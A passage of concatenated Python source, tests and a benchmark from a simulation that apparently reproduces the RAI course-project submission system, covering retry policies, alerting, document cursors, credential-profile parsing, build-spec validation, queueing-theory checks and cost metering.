        rng = np.random.default_rng(0)
        for _ in range(100):
            delay = policy.backoff(1, rng)
            assert 1.0 <= delay <= 1.5

    def test_jitter_deterministic_per_stream(self):
        policy = RetryPolicy(jitter=0.5)
        a = [policy.backoff(i, np.random.default_rng(7)) for i in (1, 2, 3)]
        b = [policy.backoff(i, np.random.default_rng(7)) for i in (1, 2, 3)]
        assert a == b

    def test_validation(self):
        with pytest.raises(ValueError):
            RetryPolicy(max_attempts=0)
        with pytest.raises(ValueError):
            RetryPolicy(multiplier=0.5)
        with pytest.raises(ValueError):
            RetryPolicy(base_delay=-1.0)
        with pytest.raises(ValueError):
            RetryPolicy(jitter=-0.1)
        with pytest.raises(ValueError):
            RetryPolicy.backoff(RetryPolicy(), 0)


class TestCall:
    def _run(self, sim, gen):
        proc = sim.process(gen)
        sim.run(until=proc)
        return proc.value

    def test_succeeds_after_transient_failures(self):
        sim = Simulator()
        policy = RetryPolicy(max_attempts=4, base_delay=2.0,
                             multiplier=2.0, jitter=0.0)
        calls = {"n": 0}

        def flaky():
            calls["n"] += 1
            if calls["n"] < 3:
                raise TransientStorageError("blip")
            return "payload"

        def proc():
            value = yield from policy.call(
                sim, flaky, retry_on=(TransientStorageError,))
            return value

        assert self._run(sim, proc()) == "payload"
        assert calls["n"] == 3
        # Two backoff sleeps: 2.0 + 4.0 simulated seconds.
        assert sim.now == pytest.approx(6.0)

    def test_budget_exhaustion_reraises(self):
        sim = Simulator()
        policy = RetryPolicy(max_attempts=3, base_delay=0.1, jitter=0.0)
        calls = {"n": 0}

        def always_fails():
            calls["n"] += 1
            raise TransientStorageError("down")

        def proc():
            yield from policy.call(sim, always_fails,
                                   retry_on=(TransientStorageError,))

        with pytest.raises(TransientStorageError):
            self._run(sim, proc())
        assert calls["n"] == 3

    def test_non_retryable_error_propagates_immediately(self):
        sim = Simulator()
        policy = RetryPolicy(max_attempts=5)
        calls = {"n": 0}

        def permanent():
            calls["n"] += 1
            raise NoSuchKey("gone forever")

        def proc():
            yield from policy.call(sim, permanent,
                                   retry_on=(TransientStorageError,))

        with pytest.raises(NoSuchKey):
            self._run(sim, proc())
        assert calls["n"] == 1
        assert sim.now == 0.0

    def test_on_retry_callback_sees_each_failure(self):
        sim = Simulator()
        policy = RetryPolicy(max_attempts=3, base_delay=0.0, jitter=0.0)
        seen = []
        calls = {"n": 0}

        def flaky():
            calls["n"] += 1
            if calls["n"] < 3:
                raise TransientStorageError(f"blip {calls['n']}")
            return "ok"

        def proc():
            return (yield from policy.call(
                sim, flaky, retry_on=(TransientStorageError,),
                on_retry=lambda attempt, exc: seen.append(
                    (attempt, str(exc)))))

        assert self._run(sim, proc()) == "ok"
        assert seen == [(1, "blip 1"), (2, "blip 2")]
