"""Alert lifecycle management: fire once per incident, resolve, re-arm.

Two alert sources feed one manager:

- **SLO burn rates** — every attached :class:`~repro.obs.slo.SloEngine`
  spec that is burning on both windows fires ``slo:<name>``; when the
  burn clears, the alert resolves and re-arms for the next incident.
- **Heartbeat watchdogs** — components that should make regular
  progress (the telemetry sampler, the metrics scraper) register a
  heartbeat; when the last beat is older than ``grace`` the manager
  fires ``stuck:<name>``, once per stall, resolving when beats resume.

The "once per incident" contract is the satellite fix for the old
telemetry-sampler behaviour, where every ``health_report`` call
re-printed the same stuck warning: an :class:`Alert` here transitions
``firing → resolved`` exactly once per incident, the full history is
retained for reports, and each transition is also recorded in the event
log (``alert.fired`` / ``alert.resolved``) so alerts interleave with the
faults and state changes that caused them.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional

from repro.obs.events import EventLog, EventType

#: Alert severities (informational ordering only).
SEVERITIES = ("info", "warning", "critical")


class Alert:
    """One incident: fired at a point in time, possibly resolved later."""

    __slots__ = ("name", "severity", "summary", "fired_at", "resolved_at",
                 "fields")

    def __init__(self, name: str, severity: str, summary: str,
                 fired_at: float, fields: Optional[dict] = None):
        self.name = name
        self.severity = severity
        self.summary = summary
        self.fired_at = fired_at
        self.resolved_at: Optional[float] = None
        self.fields: dict = fields if fields is not None else {}

    @property
    def active(self) -> bool:
        return self.resolved_at is None

    @property
    def state(self) -> str:
        return "firing" if self.active else "resolved"

    def to_dict(self) -> dict:
        return {
            "name": self.name,
            "severity": self.severity,
            "state": self.state,
            "summary": self.summary,
            "fired_at": self.fired_at,
            "resolved_at": self.resolved_at,
            "fields": dict(self.fields),
        }

    def __repr__(self):
        return (f"<Alert {self.name} {self.state} "
                f"fired_at={self.fired_at:g}>")


class _Heartbeat:
    """One registered liveness watchdog."""

    __slots__ = ("name", "last_beat", "grace", "severity", "summary")

    def __init__(self, name: str, last_beat: Callable[[], Optional[float]],
                 grace: float, severity: str, summary: str):
        self.name = name
        self.last_beat = last_beat
        self.grace = grace
        self.severity = severity
        self.summary = summary


class AlertManager:
    """Fires and resolves alerts; deduplicates within an incident."""

    def __init__(self, clock: Callable[[], float],
                 events: Optional[EventLog] = None,
                 max_history: int = 256):
        self.clock = clock
        self.events = events
        self.max_history = max_history
        #: Currently-firing alerts by name (one active incident max).
        self._active: Dict[str, Alert] = {}
        #: Full incident history, oldest first (bounded).
        self.history: List[Alert] = []
        self._heartbeats: List[_Heartbeat] = []
        self._slo_engines: list = []
        self.total_fired = 0
        self.total_resolved = 0

    # -- core transitions ----------------------------------------------------

    def fire(self, name: str, summary: str, severity: str = "warning",
             at: Optional[float] = None, **fields) -> Alert:
        """Open the ``name`` incident; idempotent while it stays active.

        Re-firing an active alert returns the existing incident
        untouched (the dedup contract) — only its fields are refreshed
        so the latest context wins in reports.
        """
        existing = self._active.get(name)
        if existing is not None:
            existing.fields.update(fields)
            return existing
        alert = Alert(name, severity, summary,
                      self.clock() if at is None else at, fields=dict(fields))
        self._active[name] = alert
        self.history.append(alert)
        if len(self.history) > self.max_history:
            del self.history[:len(self.history) - self.max_history]
        self.total_fired += 1
        if self.events is not None:
            self.events.emit(EventType.ALERT_FIRED, at=alert.fired_at,
                             alert=name, severity=severity, summary=summary,
                             **fields)
        return alert

    def resolve(self, name: str,
                at: Optional[float] = None) -> Optional[Alert]:
        """Close the active ``name`` incident; no-op if none is firing."""
        alert = self._active.pop(name, None)
        if alert is None:
            return None
        alert.resolved_at = self.clock() if at is None else at
        self.total_resolved += 1
        if self.events is not None:
            self.events.emit(EventType.ALERT_RESOLVED, at=alert.resolved_at,
                             alert=name, severity=alert.severity,
                             duration=alert.resolved_at - alert.fired_at)
        return alert

    # -- sources ------------------------------------------------------------

    def attach_slo_engine(self, engine) -> None:
        """Judge this engine's specs on every :meth:`check`."""
        self._slo_engines.append(engine)

    def watch_heartbeat(self, name: str,
                        last_beat: Callable[[], Optional[float]],
                        grace: float, severity: str = "warning",
                        summary: Optional[str] = None) -> None:
        """Fire ``stuck:<name>`` when the beat is older than ``grace``.

        ``last_beat`` returns the sim time of the component's most
        recent sign of life, or None before its first beat (never-beat
        components only trip the watchdog once the run is older than
        ``grace``, so construction order can't page).
        """
        if grace <= 0:
            raise ValueError("grace must be positive")
        self._heartbeats.append(_Heartbeat(
            name, last_beat, grace, severity,
            summary or f"{name} has stopped making progress"))

    # -- evaluation ----------------------------------------------------------

    def check(self, now: Optional[float] = None,
              scrape: bool = False) -> List[Alert]:
        """One evaluation pass over every source; returns active alerts.

        The scrape loop calls this after each snapshot (``scrape=False``
        — the sample is already fresh); ``rai alerts`` calls it with
        ``scrape=True`` for an on-demand judgment.
        """
        if now is None:
            now = self.clock()
        for engine in self._slo_engines:
            for status in engine.evaluate(now=now, scrape=scrape):
                name = f"slo:{status.spec.name}"
                if status.burning:
                    self.fire(
                        name,
                        summary=(f"SLO {status.spec.name} burning: "
                                 f"fast {status.fast.burn_rate:.1f}x / "
                                 f"slow {status.slow.burn_rate:.1f}x budget"),
                        severity="critical", at=now,
                        slo=status.spec.name,
                        fast_burn=round(status.fast.burn_rate, 4),
                        slow_burn=round(status.slow.burn_rate, 4),
                        exemplars=[e.trace_id for e in status.exemplars],
                    )
                else:
                    self.resolve(name, at=now)
        for hb in self._heartbeats:
            name = f"stuck:{hb.name}"
            last = hb.last_beat()
            stalled = ((last is None and now > hb.grace)
                       or (last is not None and now - last > hb.grace))
            if stalled:
                self.fire(name, summary=hb.summary, severity=hb.severity,
                          at=now, component=hb.name,
                          last_beat=last, grace=hb.grace)
            else:
                self.resolve(name, at=now)
        return self.active()

    # -- queries ------------------------------------------------------------

    def active(self) -> List[Alert]:
        return sorted(self._active.values(), key=lambda a: a.fired_at)

    def is_firing(self, name: str) -> bool:
        return name in self._active

    def incidents(self, name: Optional[str] = None) -> List[Alert]:
        """Incident history (optionally one alert name), oldest first."""
        if name is None:
            return list(self.history)
        return [a for a in self.history if a.name == name]

    def stats(self) -> dict:
        return {
            "active": len(self._active),
            "total_fired": self.total_fired,
            "total_resolved": self.total_resolved,
            "heartbeats": len(self._heartbeats),
            "slo_engines": len(self._slo_engines),
        }
