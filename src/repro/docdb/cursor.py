"""Query cursors: sort / skip / limit / projection over result sets."""

from __future__ import annotations

import copy
from typing import Any, Iterator, List, Optional, Sequence, Tuple, Union

from repro.docdb.query import get_path, _MISSING

SortSpec = Union[str, Sequence[Tuple[str, int]]]


class _SortKey:
    """Total-order wrapper so mixed/missing values sort deterministically.

    Order: missing < None < numbers < strings < lists < dicts — a simplified
    version of MongoDB's BSON type ordering.
    """

    __slots__ = ("rank", "value")

    _RANKS = [(type(None), 1), ((int, float), 2), (str, 3),
              ((list, tuple), 4), (dict, 5)]

    def __init__(self, value):
        if value is _MISSING:
            self.rank, self.value = 0, None
            return
        for types, rank in self._RANKS:
            if isinstance(value, types):
                self.rank = rank
                self.value = value
                return
        self.rank, self.value = 6, str(value)

    def __lt__(self, other: "_SortKey"):
        if self.rank != other.rank:
            return self.rank < other.rank
        if self.rank in (1,):
            return False
        if self.rank == 5:
            return sorted(self.value) < sorted(other.value)
        try:
            return self.value < other.value
        except TypeError:
            return str(self.value) < str(other.value)

    def __eq__(self, other):
        return self.rank == other.rank and self.value == other.value


def normalize_sort(sort: SortSpec) -> List[Tuple[str, int]]:
    if isinstance(sort, str):
        return [(sort, 1)]
    out = []
    for item in sort:
        if isinstance(item, str):
            out.append((item, 1))
        else:
            field, direction = item
            if direction not in (1, -1):
                raise ValueError(f"sort direction must be 1 or -1: {direction}")
            out.append((field, direction))
    return out


def apply_projection(doc: dict, projection: Optional[dict]) -> dict:
    """Include/exclude-style projection (no mixing, except ``_id``)."""
    if projection is None:
        return doc
    include_keys = [k for k, v in projection.items() if v and k != "_id"]
    exclude_keys = [k for k, v in projection.items() if not v and k != "_id"]
    if include_keys and exclude_keys:
        raise ValueError("cannot mix include and exclude in a projection")
    if include_keys:
        out = {}
        if projection.get("_id", 1):
            if "_id" in doc:
                out["_id"] = doc["_id"]
        for key in include_keys:
            value = get_path(doc, key)
            if value is not _MISSING:
                _assign_path(out, key, value)
        return out
    out = copy.deepcopy(doc)
    for key in exclude_keys:
        _delete_path(out, key)
    if not projection.get("_id", 1):
        out.pop("_id", None)
    return out


def _assign_path(doc: dict, path: str, value) -> None:
    parts = path.split(".")
    current = doc
    for part in parts[:-1]:
        current = current.setdefault(part, {})
    current[parts[-1]] = copy.deepcopy(value)


def _delete_path(doc: dict, path: str) -> None:
    parts = path.split(".")
    current = doc
    for part in parts[:-1]:
        if not isinstance(current, dict) or part not in current:
            return
        current = current[part]
    if isinstance(current, dict):
        current.pop(parts[-1], None)


class Cursor:
    """A lazily-sorted, sliceable view over matched documents."""

    def __init__(self, documents: List[dict],
                 projection: Optional[dict] = None,
                 plan: Optional[dict] = None):
        self._docs = documents
        self._projection = projection
        self._plan = plan
        self._sort: Optional[List[Tuple[str, int]]] = None
        self._skip = 0
        self._limit: Optional[int] = None

    def explain(self) -> dict:
        """The access-path plan that produced this cursor.

        Keys: ``path`` (``"index"`` | ``"scan"``), ``index`` (field name
        or None), ``index_kind`` (``"equality"`` | ``"range"`` | None),
        ``docs_examined``, ``docs_total``, ``docs_matched``.  Cursors not
        produced by a planned ``find`` report an ``"unplanned"`` path.
        """
        if self._plan is None:
            return {"path": "unplanned"}
        return dict(self._plan)

    def sort(self, spec: SortSpec) -> "Cursor":
        self._sort = normalize_sort(spec)
        return self

    def skip(self, n: int) -> "Cursor":
        if n < 0:
            raise ValueError("skip must be >= 0")
        self._skip = n
        return self

    def limit(self, n: int) -> "Cursor":
        if n < 0:
            raise ValueError("limit must be >= 0")
        self._limit = n
        return self

    def _materialize(self) -> List[dict]:
        docs = list(self._docs)
        if self._sort:
            # Stable sort by keys in reverse significance order.
            for field, direction in reversed(self._sort):
                docs.sort(key=lambda d: _SortKey(get_path(d, field)),
                          reverse=(direction == -1))
        docs = docs[self._skip:]
        if self._limit is not None:
            docs = docs[: self._limit]
        return [apply_projection(copy.deepcopy(d), self._projection)
                for d in docs]

    def __iter__(self) -> Iterator[dict]:
        return iter(self._materialize())

    def to_list(self) -> List[dict]:
        return self._materialize()

    def first(self) -> Optional[dict]:
        docs = self._materialize()
        return docs[0] if docs else None

    def count(self) -> int:
        return len(self._materialize())
