"""The client-side ``.rai.profile`` file.

"The RAI submission requires authentication tokens to be present in your
``$HOME/.rai.profile`` (Linux/OSX) or ``%HOME%/.rai.profile`` (Windows)
file" (Listing 3).  The format is shell-style ``KEY='value'`` lines;
comments and blank lines are tolerated because students paste these by
hand.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from repro.errors import ProfileError

_LINE_RE = re.compile(r"^\s*(RAI_[A-Z_]+)\s*=\s*(['\"]?)(.*?)\2\s*$")

REQUIRED_FIELDS = ("RAI_USER_NAME", "RAI_ACCESS_KEY", "RAI_SECRET_KEY")


@dataclass(frozen=True)
class RaiProfile:
    """Parsed student credentials."""

    username: str
    access_key: str
    secret_key: str

    def as_mapping(self) -> dict:
        return {
            "RAI_USER_NAME": self.username,
            "RAI_ACCESS_KEY": self.access_key,
            "RAI_SECRET_KEY": self.secret_key,
        }


def render_profile(profile: RaiProfile) -> str:
    """Serialise to the file format students receive by email."""
    return "".join(f"{key}='{value}'\n"
                   for key, value in profile.as_mapping().items())


def parse_profile(text: str) -> RaiProfile:
    """Parse a ``.rai.profile``; raises :class:`ProfileError` if invalid."""
    found = {}
    for lineno, line in enumerate(text.splitlines(), start=1):
        stripped = line.strip()
        if not stripped or stripped.startswith("#"):
            continue
        match = _LINE_RE.match(line)
        if match is None:
            raise ProfileError(
                f".rai.profile line {lineno} is malformed: {line!r}")
        found[match.group(1)] = match.group(3)
    missing = [f for f in REQUIRED_FIELDS if f not in found]
    if missing:
        raise ProfileError(f".rai.profile is missing {', '.join(missing)}")
    for field_name in REQUIRED_FIELDS:
        if not found[field_name]:
            raise ProfileError(f".rai.profile {field_name} is empty")
    return RaiProfile(
        username=found["RAI_USER_NAME"],
        access_key=found["RAI_ACCESS_KEY"],
        secret_key=found["RAI_SECRET_KEY"],
    )
