"""Tracing must be (nearly) free: overhead smoke for repro.obs.

Tier-1 guard for the obs PR's acceptance bar — running the smoke-scale
hot path with tracing ON costs < 10% wall clock over tracing OFF, and
changes *nothing* about the simulation itself (same completions, same
simulated latencies: spans are passive observers, never sim events).
"""

import pytest

from repro.core.config import SystemConfig
from repro.workload.hotpath import SMOKE_SCALE, run_hotpath

pytestmark = pytest.mark.perf


def _run(tracing: bool) -> dict:
    return run_hotpath(SMOKE_SCALE,
                       config=SystemConfig(tracing_enabled=tracing))


def test_tracing_does_not_perturb_simulation():
    on = _run(tracing=True)
    off = _run(tracing=False)
    # Identical simulated outcomes; only the wall clock may differ.
    on.pop("wall_clock_s")
    off.pop("wall_clock_s")
    assert on == off


def test_tracing_overhead_under_ten_percent():
    # Min-of-3 on each side damps scheduler noise; the minimum is the
    # closest observable to the true cost of the code path.
    on = min(_run(tracing=True)["wall_clock_s"] for _ in range(3))
    off = min(_run(tracing=False)["wall_clock_s"] for _ in range(3))
    ratio = on / off if off > 0 else 1.0
    assert ratio < 1.10, (
        f"tracing overhead {100 * (ratio - 1):.1f}% exceeds 10% budget "
        f"(on={on:.3f}s off={off:.3f}s)")
