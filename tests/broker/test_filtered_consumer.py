"""Filtered consumers and remaining broker corners."""

import pytest

from repro.broker import Consumer, MessageBroker


@pytest.fixture
def broker(sim):
    return MessageBroker(sim)


class TestFilteredConsumer:
    def test_filter_selects_matching_messages(self, sim, broker):
        consumer = Consumer(broker, "rai/tasks",
                            filter=lambda m: m.body.get("gpu") == "K80")
        for body in ({"gpu": "K40", "n": 1}, {"gpu": "K80", "n": 2},
                     {"gpu": "K40", "n": 3}):
            broker.publish("rai", body)

        def drain(sim):
            msg = yield consumer.get()
            consumer.ack(msg)
            return msg.body["n"]

        assert sim.run(until=sim.process(drain(sim))) == 2
        # Unmatched messages remain queued for other consumers.
        assert consumer.channel.depth == 2

    def test_filtered_delivery_tracked_in_flight(self, sim, broker):
        consumer = Consumer(broker, "rai/tasks",
                            filter=lambda m: True)
        broker.publish("rai", {"n": 1})

        def drain(sim):
            msg = yield consumer.get()
            assert msg.attempts == 1
            assert msg.id in consumer.channel.in_flight
            consumer.ack(msg)

        sim.run(until=sim.process(drain(sim)))
        assert not consumer.channel.in_flight


class TestTopicStats:
    def test_topic_stats_shape(self, sim, broker):
        consumer = Consumer(broker, "rai/tasks")
        broker.publish("rai", {"n": 1})
        stats = broker.topics["rai"].stats()
        assert stats["published"] == 1
        assert stats["channels"]["tasks"]["depth"] == 1
        assert not stats["ephemeral"]

    def test_total_depth_spans_topics(self, sim, broker):
        broker.channel("a/x")
        broker.channel("b/y")
        broker.publish("a", {})
        broker.publish("b", {})
        broker.publish("b", {})
        assert broker.total_depth() == 3


class TestAnalysisEdges:
    def test_peak_hour_empty(self):
        from repro.analysis import peak_hour

        peak = peak_hour([], 0, 3600.0)
        assert peak["count"] == 0

    def test_render_table_no_rows(self):
        from repro.analysis import render_table

        text = render_table(["a", "b"], [])
        assert "a" in text
