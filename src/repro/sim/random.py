"""Named, seeded random streams.

Every stochastic decision in the reproduction (student behaviour, service
times, network jitter) draws from a named stream derived from one master
seed via :class:`numpy.random.SeedSequence`.  Two properties follow:

- **bit-reproducibility** — the same seed replays the same course;
- **stream independence** — adding draws to one subsystem does not perturb
  the sequence seen by another, so experiments stay comparable across code
  changes (the classic common-random-numbers discipline from simulation
  practice).
"""

from __future__ import annotations

from typing import Dict

import numpy as np


class RandomStreams:
    """A factory of independent, deterministic random generators."""

    def __init__(self, seed: int = 0):
        self.seed = int(seed)
        self._root = np.random.SeedSequence(self.seed)
        self._streams: Dict[str, np.random.Generator] = {}

    def stream(self, name: str) -> np.random.Generator:
        """Return the generator for ``name``, creating it deterministically.

        The child seed depends only on ``(seed, name)``, not on creation
        order.
        """
        gen = self._streams.get(name)
        if gen is None:
            child = np.random.SeedSequence(
                entropy=self._root.entropy,
                spawn_key=(_stable_hash(name),),
            )
            gen = np.random.default_rng(child)
            self._streams[name] = gen
        return gen

    def __getitem__(self, name: str) -> np.random.Generator:
        return self.stream(name)

    # -- convenience draws ------------------------------------------------

    def uniform(self, name: str, low: float = 0.0, high: float = 1.0) -> float:
        return float(self.stream(name).uniform(low, high))

    def exponential(self, name: str, mean: float) -> float:
        return float(self.stream(name).exponential(mean))

    def normal(self, name: str, loc: float, scale: float) -> float:
        return float(self.stream(name).normal(loc, scale))

    def lognormal(self, name: str, mean: float, sigma: float) -> float:
        return float(self.stream(name).lognormal(mean, sigma))

    def integers(self, name: str, low: int, high: int) -> int:
        """Uniform integer in ``[low, high)``."""
        return int(self.stream(name).integers(low, high))

    def choice(self, name: str, options):
        options = list(options)
        idx = int(self.stream(name).integers(0, len(options)))
        return options[idx]

    def shuffled(self, name: str, items) -> list:
        items = list(items)
        self.stream(name).shuffle(items)
        return items


def _stable_hash(name: str) -> int:
    """A process-stable 63-bit hash (builtin ``hash`` is salted per run)."""
    h = 1469598103934665603  # FNV-1a offset basis
    for byte in name.encode("utf-8"):
        h ^= byte
        h = (h * 1099511628211) & 0x7FFFFFFFFFFFFFFF
    return h
