"""Instructor-side grading tools (§VI and §VII "Project Grading").

The rubric: performance 30%, functionality/correctness 20%, code quality
10%, written report 40%.  RAI automated ① re-running projects multiple
times recording the best observed performance and ② recomputing the
ranking; ③ report grading stayed manual.  This subpackage implements the
downloader ("queries the database for the final submissions and downloads
the corresponding files"), the re-run-take-min evaluator, the rubric, and
grade-report generation.
"""

from repro.grading.rubric import Rubric, RubricWeights, GradeBreakdown
from repro.grading.download import SubmissionDownloader, DownloadedSubmission
from repro.grading.evaluator import GradingEvaluator, EvaluationRun
from repro.grading.reports import GradeReport, generate_grade_reports
from repro.grading.audit import CourseworkAuditor

__all__ = [
    "Rubric",
    "RubricWeights",
    "GradeBreakdown",
    "SubmissionDownloader",
    "DownloadedSubmission",
    "GradingEvaluator",
    "EvaluationRun",
    "GradeReport",
    "generate_grade_reports",
    "CourseworkAuditor",
]
