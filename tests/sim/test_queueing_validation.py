"""Validation of the simulation kernel against analytic queueing theory.

A discrete-event kernel earns trust by reproducing known closed forms.
We check M/M/1 and M/M/c mean waiting times against the Erlang-C
formulas: every burst/elasticity result in this repository rests on the
kernel getting these right.
"""

import math

import numpy as np
import pytest

from repro.sim import Resource, Simulator


def run_mmc(arrival_rate: float, service_rate: float, servers: int,
            n_jobs: int = 20000, seed: int = 0):
    """Simulate an M/M/c queue; returns the mean wait in queue (Wq)."""
    sim = Simulator()
    rng = np.random.default_rng(seed)
    resource = Resource(sim, capacity=servers)
    waits = []

    def customer(sim, service_time):
        arrived = sim.now
        with resource.request() as req:
            yield req
            waits.append(sim.now - arrived)
            yield sim.timeout(service_time)

    def source(sim):
        for _ in range(n_jobs):
            yield sim.timeout(float(rng.exponential(1.0 / arrival_rate)))
            sim.process(customer(sim,
                                 float(rng.exponential(1.0 / service_rate))))

    sim.process(source(sim))
    sim.run()
    # Discard warm-up.
    return float(np.mean(waits[n_jobs // 10:]))


def erlang_c_wq(arrival_rate: float, service_rate: float,
                servers: int) -> float:
    """Analytic mean queue wait for M/M/c."""
    a = arrival_rate / service_rate          # offered load (Erlangs)
    rho = a / servers
    if rho >= 1:
        return math.inf
    summation = sum(a ** k / math.factorial(k) for k in range(servers))
    erlang_c = (a ** servers / math.factorial(servers)) / (1 - rho)
    p_wait = erlang_c / (summation + erlang_c)
    return p_wait / (servers * service_rate - arrival_rate)


class TestMMQueues:
    @pytest.mark.parametrize("rho", [0.5, 0.8])
    def test_mm1_mean_wait(self, rho):
        service_rate = 1.0
        arrival_rate = rho * service_rate
        simulated = run_mmc(arrival_rate, service_rate, servers=1)
        analytic = rho / (service_rate * (1 - rho))   # Wq for M/M/1
        assert simulated == pytest.approx(analytic, rel=0.12)

    @pytest.mark.parametrize("servers,rho", [(2, 0.7), (4, 0.8)])
    def test_mmc_mean_wait(self, servers, rho):
        service_rate = 1.0
        arrival_rate = rho * servers * service_rate
        simulated = run_mmc(arrival_rate, service_rate, servers)
        analytic = erlang_c_wq(arrival_rate, service_rate, servers)
        assert simulated == pytest.approx(analytic, rel=0.15)

    def test_low_load_has_negligible_wait(self):
        simulated = run_mmc(0.1, 1.0, servers=4, n_jobs=5000)
        assert simulated < 0.01

    def test_more_servers_cut_waits(self):
        """The elasticity mechanism in its purest form."""
        w2 = run_mmc(1.6, 1.0, servers=2)
        w4 = run_mmc(1.6, 1.0, servers=4)
        assert w4 < w2 / 5
