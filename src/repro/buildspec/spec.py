"""Build-spec data model and validation."""

from __future__ import annotations

import shlex
from dataclasses import dataclass, field
from typing import List, Optional, Sequence

from repro.errors import SpecValidationError, UnsupportedSpecVersion

#: Spec versions this worker generation understands.  "0.1" is the course
#: format of Listings 1 & 2; "0.2" adds the optional ``resources`` section
#: (§V's "machine requirements" future extension).
SUPPORTED_VERSIONS = ("0.1", "0.2")


@dataclass(frozen=True)
class ResourceRequest:
    """Machine requirements a job may declare (spec version 0.2)."""

    gpus: int = 1
    memory_gb: Optional[float] = None
    cpus: Optional[int] = None

    def validate(self) -> None:
        if self.gpus < 0:
            raise SpecValidationError("resources.gpus must be >= 0")
        if self.memory_gb is not None and self.memory_gb <= 0:
            raise SpecValidationError("resources.memory_gb must be positive")
        if self.cpus is not None and self.cpus < 1:
            raise SpecValidationError("resources.cpus must be >= 1")


@dataclass
class RaiBuildSpec:
    """One parsed ``rai-build.yml``."""

    version: str
    image: str
    build_commands: List[str] = field(default_factory=list)
    resources: Optional[ResourceRequest] = None
    #: ``rai.cache: false`` opts a spec out of the build-artifact cache
    #: entirely (e.g. benchmarking an intentionally noisy build).
    cache_enabled: bool = True

    def validate(self, image_whitelist: Optional[Sequence[str]] = None) -> None:
        """Raise a :class:`~repro.errors.BuildSpecError` subclass on any
        problem; the worker surfaces the message to the student (§V step 2).
        """
        if self.version not in SUPPORTED_VERSIONS:
            raise UnsupportedSpecVersion(
                f"rai-build.yml version {self.version!r} is not supported "
                f"(supported: {', '.join(SUPPORTED_VERSIONS)})")
        if not self.image or not str(self.image).strip():
            raise SpecValidationError("rai.image must name a base image")
        if not self.build_commands:
            raise SpecValidationError("commands.build must list at least "
                                      "one command")
        for command in self.build_commands:
            if not isinstance(command, str) or not command.strip():
                raise SpecValidationError(
                    f"commands.build entries must be non-empty strings, "
                    f"got {command!r}")
        if self.resources is not None:
            if self.version == "0.1":
                raise SpecValidationError(
                    "the resources section requires version 0.2")
            self.resources.validate()
        if image_whitelist is not None and self.image not in image_whitelist:
            raise SpecValidationError(
                f"image {self.image!r} is not on the course whitelist")


#: Programs whose effects are fully described by filesystem reads and
#: writes — safe to capture and replay.  Run/grading commands (./ece408,
#: nvprof, /usr/bin/time, cp, echo, ...) are deliberately absent: their
#: value is the *execution* (timing, profiles, grading output), not the
#: files they leave behind, so they always run.
CACHEABLE_PROGRAMS = frozenset({"cmake", "make"})

#: Shell operators that chain sub-commands inside one command line.
_CHAIN_OPERATORS = ("&&", "||", ";", "|")


def command_cacheable(command: str) -> bool:
    """True when every sub-command of ``command`` is a cacheable program.

    A single non-cacheable segment poisons the whole line: replaying half
    a pipeline would skip the half whose execution matters.
    """
    try:
        tokens = shlex.split(command)
    except ValueError:
        return False
    if not tokens:
        return False
    segments: List[List[str]] = [[]]
    for token in tokens:
        if token in _CHAIN_OPERATORS:
            segments.append([])
        else:
            segments[-1].append(token)
    for argv in segments:
        if not argv or argv[0] not in CACHEABLE_PROGRAMS:
            return False
    return True
