"""Usage metering & cost attribution — the PR-10 acceptance bench.

Not a paper figure: this bench prices the ``repro.obs.usage`` subsystem
and pins its invariants at scale.  Two parts:

1. **Attribution run** — a provisioned fleet (4 instances, 2 slots
   each) serves a six-team storm; the bench asserts the conservation
   invariant (per-tenant attributed + idle == ``Provisioner.total_cost``
   within 1e-6, live *and* after a snapshot → install round trip) and
   that every team active in the window shows nonzero container-seconds
   in the ``rai cost`` report.
2. **Overhead run** — the medium hot-path workload with metering on vs
   off, min-of-N CPU seconds; the bar is < 5%.

Writes ``BENCH_usage.json`` at the repository root.

Run: ``pytest benchmarks/bench_usage.py -s``
"""

import json
import os
import time

from benchmarks.conftest import print_banner
from repro.cluster import Provisioner
from repro.core.config import SystemConfig
from repro.core.system import RaiSystem
from repro.durability.snapshot import capture, install
from repro.workload.hotpath import DEFAULT_SCALES, run_hotpath

_OUT_PATH = os.path.join(os.path.dirname(os.path.dirname(__file__)),
                         "BENCH_usage.json")

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\nint main(){}\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}

TEAMS = [f"team{i:02d}" for i in range(6)]
JOBS_PER_TEAM = 3
_ROUNDS = 3  # min-of-N per side damps scheduler noise

MEDIUM_SCALE = next(s for s in DEFAULT_SCALES if s.name == "medium")


def _attribution_run():
    system = RaiSystem(seed=408,
                       config=SystemConfig(usage_window_seconds=600.0))
    provisioner = Provisioner(system)
    provisioner.launch_many(4, instance_type="p2.xlarge",
                            max_concurrent_jobs=2, boot_delay=1.0)
    system.run(until=5)
    gap = system.config.rate_limit_seconds + 5.0

    def student(idx, team):
        client = system.new_client(team=team, username=f"{team}-user")
        client.stage_project(FILES)
        yield system.sim.timeout(0.5 * idx)
        for k in range(JOBS_PER_TEAM):
            if k:
                yield system.sim.timeout(gap)
            result = yield from client.submit()
            results.append(result)

    results = []
    system.run_all([student(i, t) for i, t in enumerate(TEAMS)])
    assert all(r.status.value == "succeeded" for r in results)

    provisioner.terminate_all()
    system.cost_allocator.refresh()
    report = system.cost_allocator.report()
    fleet_total = provisioner.total_cost()

    # -- acceptance: conservation within 1e-6, live books ---------------
    residual = abs(report["attributed_cost"] + report["idle_cost"]
                   - fleet_total)
    assert residual < 1e-6, f"conservation violated by ${residual:.2e}"

    # -- acceptance: every active team has nonzero container-seconds ----
    by_team = {row["team"]: row for row in report["tenants"]}
    for team in TEAMS:
        assert by_team[team]["container_seconds"] > 0, \
            f"{team} active in the window but metered zero"

    # -- acceptance: conservation survives snapshot -> restore ----------
    snap = capture(system)
    target = RaiSystem(seed=408,
                       config=SystemConfig(usage_window_seconds=600.0))
    install(target, snap)
    view = target.cost_allocator.preview()
    restored_residual = abs(view["attributed_total"] + view["idle_cost"]
                            - fleet_total)
    assert restored_residual < 1e-6, \
        f"post-restore conservation violated by ${restored_residual:.2e}"

    return {
        "teams": len(TEAMS),
        "jobs": len(results),
        "fleet_cost_usd": round(fleet_total, 6),
        "attributed_cost_usd": round(report["attributed_cost"], 6),
        "idle_cost_usd": round(report["idle_cost"], 6),
        "conservation_residual_usd": residual,
        "restored_conservation_residual_usd": restored_residual,
        "tenants": [
            {"team": row["team"],
             "container_seconds": round(row["container_seconds"], 3),
             "gpu_seconds": round(row["gpu_seconds"], 3),
             "cost_usd": round(row["cost_usd"], 6),
